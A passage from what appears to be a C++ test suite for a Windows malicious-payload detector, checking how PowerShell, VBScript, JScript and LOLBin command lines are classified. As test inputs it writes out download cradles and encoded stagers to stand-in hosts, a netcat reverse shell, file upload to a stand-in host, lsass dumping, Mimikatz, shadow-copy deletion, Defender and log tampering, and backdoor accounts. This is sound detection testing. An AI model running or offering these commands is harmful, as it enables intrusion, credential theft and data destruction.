    CHECK_KIND(ps("New-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe' -Name Debugger -Value cmd.exe"), autostart_registry_write);
    CHECK_KIND(ps("Set-ItemProperty HKLM:\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest -Name UseLogonCredential -Value 1"), credential_access);
    CHECK_KIND(ps("Set-WmiInstance -Namespace root/subscription -Class __EventFilter -Arguments @{Name='x'}"), wmi_subscription_change);
    CHECK_KIND(ps("Get-WmiObject Win32_ComputerSystem"), wmi_access);
    CHECK_KIND(ps("Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'calc.exe'"), wmi_process_create);
    CHECK_KIND(ps("$c = Get-WmiObject -Namespace root\\x -Class Store -List; $p = $c.Properties['Payload'].Value"), wmi_class_storage);
    CHECK_KIND(ps("New-LocalUser -Name svc -Password $pw; Add-LocalGroupMember -Group Administrators -Member svc"), account_manipulation);
    CHECK_KIND(ps("Invoke-Mimikatz -Command 'sekurlsa::logonpasswords'"), credential_access);
    CHECK_KIND(ps("rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).Id C:\\x.dmp full"), credential_access);
    CHECK_KIND(ps("Stop-Process -Name procexp -Force"), process_termination);
    CHECK_KIND(ps("(Get-Process notepad).Kill()"), process_termination);
    CHECK_KIND(ps("Start-Process notepad.exe"), script_process_launch);
    CHECK_KIND(ps("[Diagnostics.Process]::Start('cmd.exe', '/c whoami')"), script_process_launch);
    CHECK_KIND(ps("Invoke-Command -ComputerName srv01 -ScriptBlock { hostname }"), remote_execution);
    CHECK_KIND(ps("Start-Process powershell -WindowStyle Hidden -ArgumentList '-c Get-Date'"), hidden_window);
    CHECK_KIND(ps("Set-ExecutionPolicy Bypass -Scope Process"), execution_policy_bypass);
    CHECK_KIND(ps("Remove-Item C:\\Windows\\Temp\\x.exe"), file_deletion);
    CHECK_KIND(ps("Get-WmiObject Win32_ShadowCopy | Remove-WmiObject"), recovery_inhibition);
    CHECK_KIND(ps("Set-Content -Path 'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.bat' -Value 'calc'"), autostart_file_write);
}

TEST_CASE("PowerShell: commands the script runs are analysed recursively") {
    const auto r = ps("Start-Process -FilePath cmd.exe -ArgumentList '/c certutil -urlcache -split -f http://x.example/a.exe C:\\Windows\\Temp\\a.exe' -WindowStyle Hidden");
    CHECK_KIND(r, script_process_launch);
    CHECK_KIND(r, download);
    CHECK_KIND(r, hidden_window);
    CHECK_KIND(r, lolbin);
    const auto native = ps("$x = 1; schtasks /create /tn upd /tr 'powershell -w hidden -enc " + enc("Get-Date") + "' /sc onlogon");
    CHECK_KIND(native, scheduled_task);
    CHECK_KIND(native, encoded_command);
    const auto psi = ps("$b='powershell.exe';$s=New-Object System.Diagnostics.ProcessStartInfo;$s.FileName=$b;$s.Arguments='-nop -w hidden -c iex(iwr http://x.example/p)';[System.Diagnostics.Process]::Start($s)");
    CHECK_KIND(psi, download_cradle);
    CHECK_KIND(psi, hidden_window);
    CHECK_NO_KIND(psi, implicit_profile_execution);  // 'powershell.exe' alone in a literal is a name, not a launch
    const auto com = ps("(New-Object -ComObject WScript.Shell).Run('mshta http://x.example/a.hta', 0)");
    CHECK_KIND(com, remote_code_load);
    const auto lit = ps("$cmd = 'rundll32.exe url.dll,FileProtocolHandler calc.exe'; iex $cmd");
    CHECK_KIND(lit, proxy_execution);
}

TEST_CASE("PowerShell: base64 and gzip payloads inside a script are decoded") {
    // gzip of "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/p')", as stagers carry it.
    const std::string gz = "H4sIAAAAAAAC//N0jVDQ8Est1/VPykpNLlHwSy3RC09Ncs7JTM0r0dRzyS/Py8lPTAkuKcrMS9dQzygpKbDS1ze0tNAzNdQzNDDQMzLWL1DXBAAAJInARwAAAA==";
    const auto r = ps("IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('" + gz + "'))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()");
    INFO(dump(r));
    CHECK_KIND(r, compressed_payload);
    bool inner = false;
    for (const auto& l : r.layers) inner = inner || l.text.find("DownloadString") != std::string::npos;
    CHECK(inner);
    CHECK_KIND(r, download_cradle);
    const auto* url = r.find(indicator_kind::url);
    REQUIRE(url != nullptr);
    CHECK(url->detail == "http://198.51.100.23/p");
    CHECK(url->field.find(">base64>gzip") != std::string::npos);

    std::string pe(256, '\0');
    pe[0] = 'M';
    pe[1] = 'Z';
    pe[60] = static_cast<char>(128);
    pe.replace(128, 4, std::string("PE\0\0", 4));
    CHECK_KIND(ps("[Reflection.Assembly]::Load([Convert]::FromBase64String('" + wmisub::base64_encode(pe) + "'))"), embedded_binary);
    std::string bytes = "[Byte[]] $buf = ";
    // Appended piece by piece: `"," + std::string` trips GCC 12's -O3 -Wstringop-overflow false positive.
    for (int i = 0; i < 80; ++i) bytes += i ? ",0xfc" : "0xfc";
    CHECK_KIND(ps(bytes), embedded_binary);
}

TEST_CASE("PowerShell: benign administration stays quiet") {
    for (const char* s : {
             "Get-Service | Where-Object {$_.Status -eq 'Running'} | Export-Csv C:\\Reports\\svc.csv",
             "$d = Get-Date; Write-Output \"Backup finished at $d\"",
             "Get-WmiObject Win32_LogicalDisk | Select-Object DeviceID, FreeSpace",
             "[Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms') | Out-Null",
             "& 'C:\\Program Files\\Vendor\\agent.exe' --check",
             "Test-Connection -ComputerName 127.0.0.1 -Count 1",
             "$v = [Environment]::OSVersion.Version; \"Version $v 10.0.19041.1\"",
         }) {
        CAPTURE(s);
        CHECK_NOT_STRONG(ps(s));
    }
}

// ---------------------------------------------------------------------------
// VBScript and JScript
// ---------------------------------------------------------------------------

TEST_CASE("scripts: process launch, and the command run is analysed") {
    const auto r = vbs("Set sh = CreateObject(\"WScript.Shell\")\nsh.Run \"powershell -nop -w hidden -enc " + enc("iwr http://x.example/a | iex") + "\", 0, False");
    CHECK_KIND(r, script_process_launch);
    CHECK_KIND(r, hidden_window);
    CHECK_KIND(r, encoded_command);
    CHECK_KIND(r, download_cradle);
    const auto* e = r.find(indicator_kind::encoded_command);
    REQUIRE(e != nullptr);
    CHECK(e->field == "ScriptText");
    CHECK(e->depth >= 1);
    CHECK_KIND(js("var s = new ActiveXObject('WScript.Shell'); var e = s.Exec('cmd /c whoami');"), script_process_launch);
    const auto se = vbs("CreateObject(\"Shell.Application\").ShellExecute \"cmd.exe\", \"/c net user x y /add\", \"\", \"open\", 0");
    CHECK_KIND(se, script_process_launch);
    CHECK_KIND(se, account_manipulation);
    const auto wmi = vbs("Set p = GetObject(\"winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2:Win32_Process\")\np.Create \"cmd /c vssadmin delete shadows /all /quiet\", Null, Null, pid");
    CHECK_KIND(wmi, wmi_process_create);
    CHECK_KIND(wmi, recovery_inhibition);
    CHECK_NO_KIND(wmi, unc_path);
    // A command held in a variable.
    CHECK_KIND(vbs("c = \"mshta http://x.example/a.hta\"\nCreateObject(\"WScript.Shell\").Run c"), remote_code_load);
}

TEST_CASE("scripts: network, downloads, dynamic code, files, registry, WMI") {
    CHECK_KIND(vbs("Set x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", \"http://x.example/p\", False\nx.Send\nSet s = CreateObject(\"ADODB.Stream\")\ns.Open\ns.Type = 1\ns.Write x.ResponseBody\ns.SaveToFile \"C:\\Users\\Public\\p.exe\", 2"), download);
    CHECK_KIND(vbs("Set x = CreateObject(\"MSXML2.ServerXMLHTTP.6.0\")\nx.Open \"GET\", \"http://x.example/p\", False\nx.Send\nExecute x.ResponseText"), download_cradle);
    CHECK_KIND(js("var x = new ActiveXObject('WinHttp.WinHttpRequest.5.1'); x.Open('GET','https://x.example/c',false); x.Send(); eval(x.ResponseText);"), download_cradle);
    CHECK_KIND(js("var ie = new ActiveXObject('InternetExplorer.Application'); ie.Navigate('https://x.example/');"), network_request);
    CHECK_KIND(vbs("Set x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"POST\", \"http://x.example/p\", False"), network_request);
    CHECK_KIND(vbs("ExecuteGlobal code"), dynamic_code);
    CHECK_KIND(vbs("Execute(code)"), dynamic_code);
    CHECK_KIND(vbs("x = Eval(expr)"), dynamic_code);
    CHECK_KIND(js("var f = new Function('return 1');"), dynamic_code);
    CHECK_KIND(js("setTimeout(\"doIt()\", 100);"), dynamic_code);
    CHECK_NO_KIND(vbs("Set re = New RegExp\nSet m = re.Execute(s)"), dynamic_code);
    CHECK_NO_KIND(js("var f = function(a) { return a; }; setTimeout(f, 10);"), dynamic_code);
    CHECK_KIND(vbs("Set d = CreateObject(\"MSXML2.DOMDocument\")\nSet e = d.createElement(\"b\")\ne.DataType = \"bin.base64\"\ne.Text = s\nb = e.NodeTypedValue"), base64_decode);
    const auto drop = vbs("Set f = CreateObject(\"Scripting.FileSystemObject\")\nSet t = f.CreateTextFile(\"C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\u.vbs\", True)\nt.WriteLine \"x\"");
    CHECK_KIND(drop, autostart_file_write);
    CHECK_KIND(drop, executable_file_write);
    CHECK_KIND(js("var f = new ActiveXObject('Scripting.FileSystemObject'); f.CopyFile('a.txt', 'C:\\\\Windows\\\\Temp\\\\a.exe');"), executable_file_write);
    CHECK_KIND(vbs("CreateObject(\"Scripting.FileSystemObject\").DeleteFile \"C:\\x.log\""), file_deletion);
    const auto reg = vbs("CreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u\", \"mshta http://x.example/u.hta\", \"REG_SZ\"");
    CHECK_KIND(reg, autostart_registry_write);
    CHECK_KIND(reg, remote_code_load);
    CHECK_KIND(vbs("Set r = GetObject(\"winmgmts:root\\default:StdRegProv\")\nr.SetStringValue &H80000001, \"Software\\Microsoft\\Windows\\CurrentVersion\\Run\", \"u\", \"calc\""), autostart_registry_write);
    CHECK_KIND(vbs("Set w = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\nSet c = w.ExecQuery(\"SELECT * FROM Win32_OperatingSystem\")"), wmi_access);
    CHECK_KIND(js("var s = GetObject('winmgmts:root\\\\subscription'); s.Delete(\"__FilterToConsumerBinding.Consumer='x'\");"), wmi_subscription_change);
    CHECK_KIND(vbs("For Each p In GetObject(\"winmgmts:\").ExecQuery(\"select * from Win32_Process where Name='MsMpEng.exe'\")\np.Terminate\nNext"), security_tool_tamper);
    CHECK_KIND(vbs("Set s = CreateObject(\"Schedule.Service\")\ns.Connect\nf.RegisterTaskDefinition \"u\", d, 6, , , 3"), scheduled_task);
    CHECK_KIND(js("GetObject('script:https://x.example/a.sct')"), remote_code_load);
    CHECK_KIND(vbs("WScript.Echo TargetEvent.TargetInstance.Name"), event_data_template);
    const std::string blob = wmisub::base64_encode("CreateObject(\"WScript.Shell\").Run \"cmd /c net localgroup administrators x /add\"");
    const auto b = vbs("s = \"" + blob + "\"\n' decoded and executed at run time");
    CHECK_KIND(b, account_manipulation);
    REQUIRE_FALSE(b.layers.empty());
    CHECK(b.layers[0].encoding == "base64_utf8");
}

TEST_CASE("scripts: engines") {
    CHECK_KIND(wmisub::analyze_script("x = 1", "PerlScript"), unusual_script_engine);
    CHECK_NO_KIND(wmisub::analyze_script("x = 1", "VBScript"), unusual_script_engine);
    CHECK_NO_KIND(wmisub::analyze_script("x = 1", "jscript"), unusual_script_engine);
    CHECK_KIND(wmisub::analyze_script("#@~^GQAAAA==v,Zk^.kaY,/4+^V~J@#@&EAcAAA==^#~@", "VBScript.Encode"), encoded_script);
    CHECK(wmisub::language_of_engine(" VBScript ") == wmisub::script_language::vbscript);
    CHECK(wmisub::language_of_engine("JavaScript") == wmisub::script_language::jscript);
    CHECK(wmisub::language_of_engine("JScript.Encode") == wmisub::script_language::jscript);
    CHECK(wmisub::language_of_engine("Python") == wmisub::script_language::unknown);
    // An unknown engine is still scanned with both language rule sets.
    CHECK_KIND(wmisub::analyze_script("CreateObject(\"WScript.Shell\").Run \"calc\"", "MyEngine"), script_process_launch);
}

TEST_CASE("scripts: benign logging and monitoring scripts stay quiet") {
    const char* asec =
        "Dim objFS, objFile\nSet objFS = CreateObject(\"Scripting.FileSystemObject\")\n"
        "Set objFile = objFS.OpenTextFile(\"C:\\ASEC.log\", 8, true)\n"
        "objFile.WriteLine \"Time: \" & Now & \"; Entry made by: ASEC\"\n"
        "objFile.WriteLine \"Application closed. UserModeTime:  \" & TargetEvent.TargetInstance.UserModeTime &_\n"
        "\"; KernelModeTime: \" & TargetEvent.TargetInstance.KernelModeTime & \" [hundreds of nanoseconds]\"\nobjFile.Close\n";
    const auto r = vbs(asec);
    CHECK_NOT_STRONG(r);
    CHECK_KIND(r, file_write);
    CHECK_NO_KIND(r, obfuscation);
    CHECK_NOT_STRONG(vbs("Set w = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\nFor Each d In w.ExecQuery(\"Select * From Win32_LogicalDisk\")\nIf d.FreeSpace < 1000000 Then x = x + 1\nNext"));
    CHECK_NOT_STRONG(js("var fso = new ActiveXObject('Scripting.FileSystemObject'); var f = fso.OpenTextFile('C:\\\\logs\\\\events.log', 8, true); f.WriteLine(new Date()); f.Close();"));
    CHECK_NOT_STRONG(vbs("Set f = CreateObject(\"Scripting.FileSystemObject\")\nSet t = f.OpenTextFile(\"C:\\Tools\\app.ini\", 1)\ns = t.ReadAll"));
}

// ---------------------------------------------------------------------------
// Tools and LOLBins
// ---------------------------------------------------------------------------

TEST_CASE("LOLBins and system tools") {
    struct row {
        const char* command;
        indicator_kind kind;
    };
    const row rows[] = {
        {"mshta http://x.example/a.hta", indicator_kind::remote_code_load},
        {"mshta.exe javascript:a=GetObject(\"script:https://x.example/a.sct\").Exec();close();", indicator_kind::inline_script},
        {"mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\", 0 : window.close\")", indicator_kind::inline_script},
        {"mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\", 0 : window.close\")", indicator_kind::script_process_launch},
        {R"(mshta C:\Users\Public\a.hta)", indicator_kind::runs_from_writable_path},
        {R"(rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();new%20ActiveXObject("WScript.Shell").Run("calc"))", indicator_kind::inline_script},
        {"rundll32 url.dll,FileProtocolHandler calc.exe", indicator_kind::proxy_execution},
        {"rundll32.exe shell32.dll,ShellExec_RunDLL cmd.exe /c whoami", indicator_kind::proxy_execution},
        {"rundll32.exe zipfldr.dll,RouteTheCall calc.exe", indicator_kind::proxy_execution},
        {R"(rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full)", indicator_kind::credential_access},
        {R"(rundll32 C:\Users\Public\x.dll,DllMain)", indicator_kind::runs_from_writable_path},
        {R"(rundll32 C:\Windows\Temp\x.jpg,Start)", indicator_kind::extension_mismatch},
        {R"(rundll32 \\198.51.100.2\s\x.dll,Start)", indicator_kind::remote_code_load},
        {"regsvr32 /s /n /u /i:http://x.example/file.sct scrobj.dll", indicator_kind::remote_code_load},
        {R"(regsvr32.exe /s C:\ProgramData\x.dll)", indicator_kind::runs_from_writable_path},
        {R"(certutil -urlcache -split -f http://x.example/a.exe C:\Windows\Temp\a.exe)", indicator_kind::download},
        {R"(certutil.exe -urlcache -f http://x.example/a.exe a.exe)", indicator_kind::executable_file_write},
        {R"(certutil -decode C:\Windows\Temp\a.b64 C:\Windows\Temp\a.exe)", indicator_kind::base64_decode},
        {R"(bitsadmin /transfer j /download /priority high http://x.example/a.exe C:\Users\Public\a.exe)", indicator_kind::download},
        {R"(bitsadmin /SetNotifyCmdLine job C:\Windows\System32\cmd.exe "/c calc")", indicator_kind::proxy_execution},
        {"msiexec /q /i http://x.example/a.msi", indicator_kind::remote_code_load},
        {"msiexec /q /i http://x.example/a.msi", indicator_kind::hidden_window},
        {R"(msiexec /y C:\Users\Public\x.dll)", indicator_kind::proxy_execution},
        {"wmic process call create \"cmd /c whoami\"", indicator_kind::wmi_process_create},
        {"wmic /node:10.0.0.5 process call create \"calc.exe\"", indicator_kind::remote_execution},
        {"wmic shadowcopy delete /nointeractive", indicator_kind::recovery_inhibition},
        {"wmic os get /format:\"https://x.example/a.xsl\"", indicator_kind::remote_code_load},
        {"wmic process where name='MsMpEng.exe' delete", indicator_kind::security_tool_tamper},
        {R"(schtasks /create /tn upd /tr "C:\Users\Public\u.exe" /sc onlogon /ru SYSTEM)", indicator_kind::scheduled_task},
        {R"(schtasks /create /tn upd /tr "C:\Users\Public\u.exe" /sc onlogon /ru SYSTEM)", indicator_kind::runs_from_writable_path},
        {"schtasks /create /s 10.0.0.8 /tn u /tr calc /sc once /st 00:00", indicator_kind::remote_execution},
        {"at 23:00 /every:M cmd /c calc", indicator_kind::scheduled_task},
        {R"(reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v u /t REG_SZ /d "C:\Users\Public\u.exe" /f)", indicator_kind::autostart_registry_write},
        {R"(reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /d cmd.exe)", indicator_kind::autostart_registry_write},
        {R"(reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f)", indicator_kind::security_tool_tamper},
        {R"(reg save HKLM\SAM C:\Windows\Temp\sam.save)", indicator_kind::credential_access},
        {"net user backdoor P@ssw0rd! /add", indicator_kind::account_manipulation},
        {"net localgroup administrators backdoor /add", indicator_kind::account_manipulation},
        {"net1 user Guest /active:yes", indicator_kind::account_manipulation},
        {"net stop WinDefend", indicator_kind::security_tool_tamper},
        {"net view \\\\fileserver", indicator_kind::discovery},
        {R"(sc create evil binPath= "C:\Users\Public\s.exe" start= auto)", indicator_kind::service_install},
        {R"(sc config Spooler binpath= "cmd /c calc")", indicator_kind::service_install},
        {"sc stop WinDefend", indicator_kind::security_tool_tamper},
        {R"(sc \\10.0.0.3 create s binPath= "calc.exe")", indicator_kind::remote_execution},
        {"bash -c \"curl http://x.example/a | sh\"", indicator_kind::proxy_execution},
        {"wsl -e /bin/sh -c id", indicator_kind::proxy_execution},
        {"forfiles /p c:\\windows\\system32 /m notepad.exe /c \"cmd /c calc\"", indicator_kind::proxy_execution},
        {"conhost.exe --headless cmd /c whoami", indicator_kind::hidden_window},
        {"conhost.exe --headless cmd /c whoami", indicator_kind::proxy_execution},
        {R"(curl -o C:\Windows\Temp\a.exe http://x.example/a.exe)", indicator_kind::download},
        {"curl.exe -T C:\\secrets.zip https://x.example/up", indicator_kind::data_upload},
        {"curl https://x.example/ping", indicator_kind::network_request},
        {"wget http://x.example/a.exe", indicator_kind::download},
        {"waitfor.exe knock", indicator_kind::signal_wait},
        {"taskkill /f /im MsMpEng.exe", indicator_kind::process_termination},
        {"taskkill /f /im MsMpEng.exe", indicator_kind::security_tool_tamper},
        {"vssadmin.exe delete shadows /all /quiet", indicator_kind::recovery_inhibition},
        {"wevtutil cl Security", indicator_kind::logging_tamper},
        {"wevtutil sl Microsoft-Windows-Sysmon/Operational /e:false", indicator_kind::logging_tamper},
        {"bcdedit /set {default} recoveryenabled no", indicator_kind::recovery_inhibition},
        {"wbadmin delete catalog -quiet", indicator_kind::recovery_inhibition},
        {"netsh advfirewall set allprofiles state off", indicator_kind::security_tool_tamper},
        {R"(netsh add helper C:\Users\Public\h.dll)", indicator_kind::autostart_registry_write},
        {"netsh interface portproxy add v4tov4 listenport=8080 connectaddress=10.0.0.1 connectport=80", indicator_kind::network_request},
        {"auditpol /clear /y", indicator_kind::logging_tamper},
        {R"(attrib +h +s C:\ProgramData\x.exe)", indicator_kind::file_hiding},
        {R"(mofcomp C:\Windows\Temp\x.mof)", indicator_kind::wmi_subscription_change},
        {R"(psexec \\10.0.0.9 -s cmd /c whoami)", indicator_kind::remote_execution},
        {"winrs -r:srv01 cmd /c hostname", indicator_kind::remote_execution},
        {"procdump -ma lsass.exe C:\\x.dmp", indicator_kind::credential_access},
        {"ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\x\" q q", indicator_kind::credential_access},
        {R"(C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\ProgramData\p.xml)", indicator_kind::proxy_execution},
        {R"(C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\ProgramData\p.xml)", indicator_kind::runs_from_writable_path},
        {R"(installutil /logfile= /LogToConsole=false /U C:\Users\Public\x.dll)", indicator_kind::proxy_execution},
        {"pcalua.exe -a calc.exe", indicator_kind::proxy_execution},
        {"SyncAppvPublishingServer.exe \"n; IEX (iwr http://x.example/a)\"", indicator_kind::download_cradle},
        {R"(mavinject.exe 1234 /INJECTRUNNING C:\Users\Public\x.dll)", indicator_kind::process_injection},
        {"hh.exe http://x.example/a.chm", indicator_kind::remote_code_load},
        {R"(ftp -s:C:\Windows\Temp\cmds.txt)", indicator_kind::proxy_execution},
        {"tftp -i 10.0.0.1 GET a.exe", indicator_kind::download},
        {"desktopimgdownldr /lockscreenurl:https://x.example/a.exe /eventName:desktopimgdownldr", indicator_kind::download},
        {R"("C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2107.4-0\MpCmdRun.exe" -DownloadFile -url https://x.example/a.exe -path C:\Users\Public\a.exe)", indicator_kind::download},
        {"MpCmdRun.exe -RemoveDefinitions -All", indicator_kind::security_tool_tamper},
        {"certreq -Post -config https://x.example/ C:\\Windows\\win.ini out.txt", indicator_kind::data_upload},
        {"nc.exe -e cmd.exe 203.0.113.7 4444", indicator_kind::reverse_shell},
        {"ncat 203.0.113.7 4444", indicator_kind::network_request},
        {"python -c \"import os; os.system('calc')\"", indicator_kind::inline_script},
        {"chrome.exe --headless --dump-dom https://x.example/", indicator_kind::download},
        {R"(xcopy C:\tools\a.exe "C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\")", indicator_kind::autostart_file_write},
        {R"(esentutl.exe /y C:\x\a.exe /d C:\Windows\Temp\b.exe /o)", indicator_kind::executable_file_write},
        {"fsutil usn deletejournal /d c:", indicator_kind::logging_tamper},
        {"cipher /w:C:\\", indicator_kind::file_deletion},
        {R"(explorer.exe C:\Users\Public\a.exe)", indicator_kind::proxy_execution},
        {"whoami /all", indicator_kind::discovery},
        {"mimikatz.exe privilege::debug sekurlsa::logonpasswords exit", indicator_kind::credential_access},
        {"ScriptRunner.exe -appvscript calc.exe", indicator_kind::proxy_execution},
        {"cscript //E:jscript C:\\Tools\\readme.txt", indicator_kind::extension_mismatch},
        {R"(wscript \\198.51.100.2\share\a.vbs)", indicator_kind::remote_code_load},
        {R"(cscript.exe //nologo C:\Users\bob\AppData\Local\Temp\a.vbs)", indicator_kind::runs_from_writable_path},
        {"certutil -urlcache -split -f http://x.example/a a", indicator_kind::lolbin},
    };
    for (const row& r : rows) {
        CAPTURE(r.command);
        CAPTURE(wmisub::to_string(r.kind));
        const auto a = cl(r.command);
        INFO(dump(a));
        CHECK(a.has(r.kind));
    }
}

TEST_CASE("cmd.exe: /c quoting, separators, built-ins and pipelines") {
    const auto r = cl("cmd.exe /c \"start /min powershell -nop -c \"\"iwr http://x.example/a -OutFile a.exe\"\" & echo done\"");
    CHECK_KIND(r, hidden_window);
    CHECK_KIND(r, download);
    bool saw_cmd = false;
    bool saw_ps = false;
    for (const auto& s : r.chain) {
        saw_cmd = saw_cmd || s.tool == "cmd.exe";
        saw_ps = saw_ps || s.tool == "powershell.exe";
    }
    CHECK(saw_cmd);
    CHECK(saw_ps);
    CHECK_KIND(cl("cmd /k call certutil -urlcache -f http://x.example/a a.exe"), download);
    CHECK_KIND(cl("cmd /c if exist C:\\x.txt (net user x y /add)"), account_manipulation);
    CHECK_KIND(cl("cmd /c for /f %i in ('whoami') do net localgroup administrators %i /add"), account_manipulation);
    CHECK_KIND(cl("cmd /c finger user@198.51.100.3 | cmd"), download_cradle);
    CHECK_KIND(cl("cmd /c curl -s http://x.example/a | powershell -"), download_cradle);
    CHECK_KIND(cl("cmd /c copy \\\\198.51.100.3\\s\\a.exe %TEMP%\\a.exe"), executable_file_write);
    CHECK_KIND(cl("cmd /c del /q C:\\Windows\\Temp\\*.log"), file_deletion);
    // Text echoed into a script is that script.
    const auto e = cl("cmd /c echo powershell -enc " + enc("Get-Date") + " > \"C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\u.bat\"");
    CHECK_KIND(e, autostart_file_write);
    CHECK_KIND(e, executable_file_write);
    CHECK_KIND(e, encoded_command);
    // cmd without /c runs only its AutoRun commands (the registry's, not the subscription's)...
    CHECK_KIND(cl("cmd.exe"), implicit_profile_execution);
    CHECK_KIND(cl("cmd.exe /q"), implicit_profile_execution);
    // ...unless /d turns AutoRun off, or /c gives it a command.
    CHECK_NOT_STRONG(cl("cmd.exe /d /q"));
    CHECK_FALSE(cl("cmd.exe /c ver").has(indicator_kind::implicit_profile_execution));
    // A batch file run through CreateProcess.
    const auto bat = cl("c:\\cmdline_test.bat");
    CHECK_KIND(bat, script_interpreter);
    CHECK_NOT_STRONG(bat);
}

TEST_CASE("templates in executed command lines") {
    const auto r = cl("cmd.exe /c echo %TargetInstance.Name% >> C:\\logs\\procs.log");
    CHECK_KIND(r, event_data_template);
    CHECK_KIND(r, event_data_in_command);
    const auto* t = r.find(indicator_kind::event_data_template);
    REQUIRE(t != nullptr);
    CHECK(t->detail == "%TargetInstance.Name%");
    CHECK(t->offset == 16);
    CHECK_NO_KIND(cl("cmd.exe /c echo %windir% %ComSpec%"), event_data_template);
    CHECK_NO_KIND(ps("Write-Output '%TargetInstance.Name%'"), event_data_template);
}

// ---------------------------------------------------------------------------
// Indicator catalog
// ---------------------------------------------------------------------------

TEST_CASE("indicator kinds have stable, unique names and a strength") {
    // Names are a contract (rules and JSON key on them): this list only grows.
    const std::vector<std::string_view> expected = {
        "url", "ip_address", "unc_path", "webdav_path", "user_writable_path", "alternate_data_stream",
        "event_data_template", "event_data_in_command", "event_data_exfiltration", "script_interpreter", "lolbin",
        "proxy_execution", "inline_script", "remote_code_load", "runs_from_writable_path", "masqueraded_binary",
        "argv0_mismatch", "unquoted_path_with_spaces", "relative_executable", "extension_mismatch",
        "script_as_command_line", "implicit_profile_execution", "hidden_window", "execution_policy_bypass",
        "encoded_command", "encoded_script", "encoded_blob", "base64_decode", "compressed_payload", "embedded_binary",
        "obfuscation", "heavy_obfuscation", "dynamic_code", "download", "download_cradle", "network_request",
        "data_upload", "reverse_shell", "signal_wait", "in_memory_assembly", "native_api_access", "process_injection",
        "script_process_launch", "wmi_process_create", "remote_execution", "amsi_bypass", "security_tool_tamper",
        "logging_tamper", "recovery_inhibition", "process_termination", "service_stop", "file_hiding",
        "autostart_registry_write", "registry_write", "scheduled_task", "service_install", "wmi_subscription_change",
        "account_manipulation", "credential_access", "file_write", "executable_file_write", "autostart_file_write",
        "file_deletion", "wmi_access", "wmi_class_storage", "discovery", "email_send", "remote_event_log",
        "custom_consumer", "unusual_script_engine"};
    REQUIRE(expected.size() == wmisub::indicator_kind_count);
    std::set<std::string_view> seen;
    for (std::size_t i = 0; i < wmisub::indicator_kind_count; ++i) {
        const auto k = static_cast<indicator_kind>(i);
        CHECK(wmisub::to_string(k) == expected[i]);
        CHECK(seen.insert(wmisub::to_string(k)).second);
        CHECK(wmisub::indicator_kind_from_string(wmisub::to_string(k)) == k);
        CHECK_FALSE(wmisub::describe(k).empty());
        CHECK(wmisub::is_strong(k) == (wmisub::strength_of(k) == wmisub::indicator_strength::strong));
    }
    CHECK_FALSE(wmisub::indicator_kind_from_string("no_such_kind"));
    CHECK(wmisub::is_strong(indicator_kind::encoded_command));
    CHECK(wmisub::is_strong(indicator_kind::download_cradle));
    CHECK_FALSE(wmisub::is_strong(indicator_kind::url));
    CHECK_FALSE(wmisub::is_strong(indicator_kind::file_write));
    CHECK_FALSE(wmisub::is_strong(indicator_kind::email_send));
    CHECK(wmisub::capabilities_of(indicator_kind::download_cradle).has(wmisub::capability::network));
    CHECK(wmisub::attack_technique(indicator_kind::wmi_process_create) == "T1047");
    CHECK(wmisub::attack_technique(indicator_kind::implicit_profile_execution) == "T1546.013");
    CHECK(wmisub::attack_technique(indicator_kind::url).empty());
    CHECK(wmisub::to_string(wmisub::capability::persistence_change) == "persistence_change");
    CHECK(wmisub::to_string(wmisub::indicator_strength::suspicious) == "suspicious");
    CHECK(wmisub::make_capabilities({wmisub::capability::network, wmisub::capability::downloads}).names() ==
          std::vector<std::string_view>{"network", "downloads"});
}

TEST_CASE("every indicator kind can be produced") {
    std::set<indicator_kind> produced;
    auto add = [&produced](const payload_analysis& r) {
        for (const auto& i : r.indicators) produced.insert(i.kind);
    };
    add(cl("powershell -nop -w hidden -ep bypass -enc " + enc("IEX (iwr http://192.0.2.1/a); [Reflection.Assembly]::Load($b)")));
    add(cl(R"(C:\Program Files\x y\a.exe)"));
    add(cl(R"(\\host.example@SSL\DavWWWRoot\x.exe)"));
    add(cl(R"(\\198.51.100.1\share\x.exe)"));
    add(cl(R"(C:\Users\Public\svchost.exe C:\Windows\Temp\a.txt:s.exe)"));
    add(wmisub::analyze_command_line("other.exe", R"(C:\Windows\System32\cmd.exe)"));
    add(cl("cmd /c echo %TargetInstance.Name% > C:\\x\\a.bat & evil.exe & attrib +h x & del x & whoami & sc stop spooler"));
    add(cl("powershell.exe -NonInteractive"));
